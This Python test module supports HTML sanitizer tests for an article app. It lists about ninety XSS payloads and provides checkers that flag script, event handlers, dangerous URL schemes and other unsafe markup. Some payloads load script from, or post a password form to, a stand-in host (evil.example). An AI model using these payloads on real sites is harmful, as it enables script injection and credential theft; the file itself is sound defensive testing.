"""Hostile text, and the checks that say whether stored or rendered HTML is harmless.

PAYLOADS: what an attacker (or a careless paste) puts into a text field: script tags, event handlers,
`javascript:` with entity, whitespace and case tricks, `data:` URLs, SVG, iframes and `srcdoc`, object/embed,
CSS `url()` and `expression()`, style attributes, CDATA and comments, mutation-XSS nestings (noscript, style,
math, svg, template), form/formaction, meta refresh, base href, and breakers for the contexts text lands in
(<title>, <textarea>, attribute values, JSON-LD, RSS). Every payload carries Chinese text too, as a real paste
would.

Checkers (html.parser from the standard library; entities in attributes are decoded as a browser decodes them):
- `clean_body_problems(html)`: what the article body must never contain once stored;
- `rendered_problems(html, same_origin_scripts=True)`: what a rendered page must never contain: a script
  element other than a JSON data block or a same-origin file, an event-handler attribute, a javascript:,
  vbscript: or data: URL where a browser would follow or run it, srcdoc, object/embed, <base>, meta refresh;
- `json_ld_problems(html)`: every ld+json block parses, and cannot close its element or open a comment.
"""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser

from articles.richtext import ALLOWED_ATTRIBUTES, ALLOWED_TAGS

MARK = "青岚XSS"  # every payload mentions it, so the text can be found again on the page

PAYLOADS: list[str] = [
    # --- script elements
    f"<script>alert('{MARK}')</script>",
    f"<SCRIPT SRC=//evil.example/x.js></SCRIPT>{MARK}",
    f'<script/xss src="data:,alert(1)"></script>{MARK}',
    f"<<script>alert('{MARK}');//<</script>",
    f"<scr<script>ipt>alert('{MARK}')</scr</script>ipt>",
    f"\"><script>alert('{MARK}')</script>",
    f"'';!--\"<XSS>=&{{()}}{MARK}",
    f"</title><script>alert('{MARK}')</script>",
    f"</textarea><script>alert('{MARK}')</script>",
    f"</script><script>alert('{MARK}')</script>",
    f"<script type=module>import('//evil.example/m.js')</script>{MARK}",
    f'青岚省科协<script>alert("科普{MARK}")</script>召开年会',
    # --- event handlers
    f"<img src=x onerror=alert('{MARK}')>",
    f'<img src="x" onerror="alert(String.fromCharCode(88,83,83))">{MARK}',
    f"<body onload=alert('{MARK}')>",
    f'<div onmouseover="alert(1)">{MARK}</div>',
    f'<a href="#" onclick="alert(1)">{MARK}</a>',
    f"<input autofocus onfocus=alert(1) value={MARK}>",
    f"<details open ontoggle=alert(1)><summary>{MARK}</summary></details>",
    f'<video><source onerror="alert(1)"></video>{MARK}',
    f"<p onclick=alert(1)>{MARK}</p>",
    f"<img src=x:alert(alt) onerror=eval(src) alt={MARK}>",
    f"<marquee onstart=alert(1)>{MARK}</marquee>",
    f'<img src="x"\nonerror="alert(1)">{MARK}',
    f"<img/src=x/onerror=alert(1)>{MARK}",
    # --- javascript: URLs with tricks
    f'<a href="javascript:alert(1)">{MARK}</a>',
    f'<a href="JaVaScRiPt:alert(1)">{MARK}</a>',
    f'<a href="jav&#x09;ascript:alert(1)">{MARK}</a>',
    f'<a href="&#106;avascript:alert(1)">{MARK}</a>',
    f'<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">{MARK}</a>',
    f'<a href=" javascript:alert(1)">{MARK}</a>',
    f'<a href="java\nscript:alert(1)">{MARK}</a>',
    f'<a href="javascript&colon;alert(1)">{MARK}</a>',
    f'<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">{MARK}</a>',
    f'<img src="javascript:alert(1)" alt="{MARK}">',
    f'<a href="vbscript:msgbox(1)">{MARK}</a>',
    # --- data: URLs
    f'<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">{MARK}</a>',
    f'<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="{MARK}">',
    f'<object data="data:text/html,<script>alert(1)</script>"></object>{MARK}',
    # --- SVG
    f"<svg onload=alert(1)>{MARK}</svg>",
    f"<svg><script>alert('{MARK}')</script></svg>",
    f"<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>{MARK}",
    f'<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>{MARK}</text></a></svg>',
    f"<svg><animate onbegin=alert(1) attributeName=x dur=1s>{MARK}",
    f'<svg><set attributeName="onmouseover" to="alert(1)"/>{MARK}</svg>',
    # --- frames, objects, embeds
    f'<iframe src="javascript:alert(1)"></iframe>{MARK}',
    f"<iframe srcdoc=\"<script>alert('{MARK}')</script>\"></iframe>",
    f'<iframe src="https://evil.example/"></iframe>{MARK}',
    f'<object data="javascript:alert(1)"></object>{MARK}',
    f'<embed src="javascript:alert(1)">{MARK}',
    f'<embed src="https://evil.example/x.swf" type="application/x-shockwave-flash">{MARK}',
    # --- CSS
    f'<div style="background:url(javascript:alert(1))">{MARK}</div>',
    f'<div style="width: expression(alert(1))">{MARK}</div>',
    f"<style>@import 'https://evil.example/x.css';</style>{MARK}",
    f'<style>body{{background:url("javascript:alert(1)")}}</style>{MARK}',
    f'<p style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff">{MARK}</p>',
    f"<link rel=stylesheet href=https://evil.example/x.css>{MARK}",
    # --- CDATA, comments, processing instructions
    f"<![CDATA[<script>alert('{MARK}')</script>]]>",
    f"<!--><script>alert('{MARK}')</script>-->",
    f"<!-- --!><script>alert('{MARK}')</script> -->",
    f"<!--<script>alert('{MARK}')//-->",
    f'<?xml-stylesheet href="javascript:alert(1)"?>{MARK}',
    # --- mutation XSS
    f'<noscript><p title="</noscript><img src=x onerror=alert(1)>">{MARK}',
    f'<style><img src="</style><img src=x onerror=alert(1)//">{MARK}',
    f"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>{MARK}",
    f'<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">{MARK}',
    f"<template><script>alert('{MARK}')</script></template>",
    f"<math><style><img src=x onerror=alert(1)></style></math>{MARK}",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>{MARK}",
    f'<xmp><p title="</xmp><img src=x onerror=alert(1)>">{MARK}',
    f'<textarea><img title="</textarea><img src=x onerror=alert(1)>">{MARK}',
    f'<noembed><img title="</noembed><img src=x onerror=alert(1)>">{MARK}',
    # --- forms, meta, base
    f'<form action="javascript:alert(1)"><input type=submit value={MARK}></form>',
    f'<button formaction="javascript:alert(1)">{MARK}</button>',
    f'<form action="https://evil.example/steal"><input name=password type=password>{MARK}</form>',
    f'<meta http-equiv="refresh" content="0;url=javascript:alert(1)">{MARK}',
    f'<base href="https://evil.example/">{MARK}',
    # --- other contexts: attributes, JSON, templates
    f"\" autofocus onfocus=\"alert('{MARK}')",
    f"' onmouseover='alert(1)' x='{MARK}",
    f"</script><!--{MARK}",
    f"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e{MARK}",
    f"{{{{ 7|add:7 }}}}{{% debug %}}${{alert(1)}}{MARK}",
    f"{MARK}\u2028\u2029</p>",
    f'<a href="https://example.org/" target="_blank">{MARK}</a>',
    # --- round two: private files' addresses as a body carries them, with handlers and tricks around them
    f'<img src="/private-media/editor/2026/12/0a1b.png" onerror="alert(1)" alt="{MARK}">',
    f'<img src="/private-media/editor/2026/12/0a1b.png?s=x&quot; onload=&quot;alert(1)" alt="{MARK}">',
    f'<a href="/private-media/../admin/" onclick="alert(1)">{MARK}</a>',
    f'<img srcset="/private-media/editor/a.png 1x, javascript:alert(1) 2x" alt="{MARK}">',
    f'<picture><source srcset="javascript:alert(1)"><img src="/media/x.png" alt="{MARK}"></picture>',
]

SHORT_PAYLOADS = [p for p in PAYLOADS if len(p) <= 40]  # for the 40-character fields (page and section names)

FORBIDDEN_IN_BODY = {
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math", "form", "input",
    "button", "textarea", "select", "option", "base", "meta", "link", "noscript", "template", "xmp", "noembed",
    "marquee", "video", "audio", "source", "details", "body", "html", "head", "title",
}  # fmt: skip
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "data",
    "poster",
    "background",
    "codebase",
}
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:", "livescript:")
SAFE_DATA_IMAGE = re.compile(r"^data:image/(png|gif|jpeg|webp);", re.IGNORECASE)
DATA_SCRIPT_TYPES = {"application/ld+json", "application/json"}
JS_TYPES = {"", "text/javascript", "application/javascript", "module"}


def _normalized_url(value: str) -> str:
    # What a browser does before reading the scheme: drop C0 controls and spaces (tabs and newlines anywhere).
    return re.sub(r"[\x00-\x20]+", "", value).lower()


def dangerous_url(value: str, tag: str = "", attribute: str = "") -> bool:
    url = _normalized_url(value or "")
    if not url.startswith(DANGEROUS_SCHEMES):
        return False
    return not (tag == "img" and attribute == "src" and SAFE_DATA_IMAGE.match(url))


def _same_origin(url: str) -> bool:
    url = (url or "").strip()
    return url.startswith("/") and not url.startswith("//") and not url.startswith("/\\")


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.scripts: list[tuple[dict[str, str | None], str]] = []
        self._script: dict[str, str | None] | None = None
        self._script_text: list[str] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag, attrs):
        attributes = {name.lower(): value for name, value in attrs}
        self.elements.append((tag.lower(), attributes))
        if tag.lower() == "script":
            self._script, self._script_text = attributes, []

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        if tag.lower() == "script":
            self.handle_endtag(tag)

    def handle_endtag(self, tag):
        if tag.lower() == "script" and self._script is not None:
            self.scripts.append((self._script, "".join(self._script_text)))
            self._script = None

    def handle_data(self, data):
        if self._script is not None:
            self._script_text.append(data)

    def handle_comment(self, data):
        self.comments.append(data)


def parse(html: str) -> _Collector:
    collector = _Collector()
    collector.feed(html)
    collector.close()
    return collector


def clean_body_problems(html: str) -> list[str]:
    """What is wrong with a stored article body (empty when it is clean)."""
    problems = []
    collected = parse(html)
    for tag, attributes in collected.elements:
        if tag in FORBIDDEN_IN_BODY or tag not in ALLOWED_TAGS:
            problems.append(f"<{tag}> element")
        allowed = ALLOWED_ATTRIBUTES.get(tag, set()) | {"rel"}
        for name, value in attributes.items():
            if name.startswith("on"):
                problems.append(f"{name}= on <{tag}>")
            elif name == "style":
                problems.append(f"style= on <{tag}>")
            elif name not in allowed:
                problems.append(f"{name}= on <{tag}> (not allowed)")
            if name in URL_ATTRIBUTES and value and _normalized_url(value).startswith(DANGEROUS_SCHEMES):
                problems.append(f"{name}={value!r} on <{tag}>")
    if collected.comments:
        problems.append("an HTML comment")
    return problems


def rendered_problems(html: str) -> list[str]:
    """What makes a rendered page unsafe (empty when it is harmless)."""
    problems = []
    collected = parse(html)
    for attributes, text in collected.scripts:
        kind = (attributes.get("type") or "").strip().lower()
        if kind in DATA_SCRIPT_TYPES:
            if re.search(r"</script|<!--", text, re.IGNORECASE):
                problems.append(f"a {kind} block that can close itself: {text[:80]!r}")
            continue
        if kind not in JS_TYPES:
            continue  # not run by browsers (text/template and such)
        src = attributes.get("src")
        if not src or not _same_origin(src):
            problems.append(f"script {('src=' + repr(src)) if src else 'inline: ' + repr(text[:80])}")
    for tag, attributes in collected.elements:
        for name, value in attributes.items():
            if name.startswith("on"):
                problems.append(f"{name}={value!r} on <{tag}>")
            if name in URL_ATTRIBUTES and value and dangerous_url(value, tag, name):
                problems.append(f"{name}={value!r} on <{tag}>")
            if name == "srcdoc":
                problems.append(f"srcdoc on <{tag}>")
        if tag in {"object", "embed", "applet", "base"}:
            problems.append(f"<{tag}> element")
        if tag in {"iframe", "frame"} and not _same_origin(attributes.get("src") or ""):
            problems.append(f"<{tag} src={attributes.get('src')!r}>")
        if tag == "meta" and (attributes.get("http-equiv") or "").lower() == "refresh":
            problems.append("meta refresh")
        if tag == "form" and attributes.get("action") and not _same_origin(attributes["action"]):
            problems.append(f"<form action={attributes['action']!r}>")
    return problems


def json_ld_problems(html: str) -> list[str]:
    problems = []
    for attributes, text in parse(html).scripts:
        if (attributes.get("type") or "").strip().lower() != "application/ld+json":
            continue
        if re.search(r"</script|<!--", text, re.IGNORECASE):
            problems.append("JSON-LD can close its element or open a comment")
        try:
            json.loads(text)
        except ValueError as exc:
            problems.append(f"JSON-LD does not parse: {exc}")
    return problems


def json_ld_blocks(html: str) -> list:
    return [
        json.loads(text)
        for attributes, text in parse(html).scripts
        if (attributes.get("type") or "").strip().lower() == "application/ld+json"
    ]
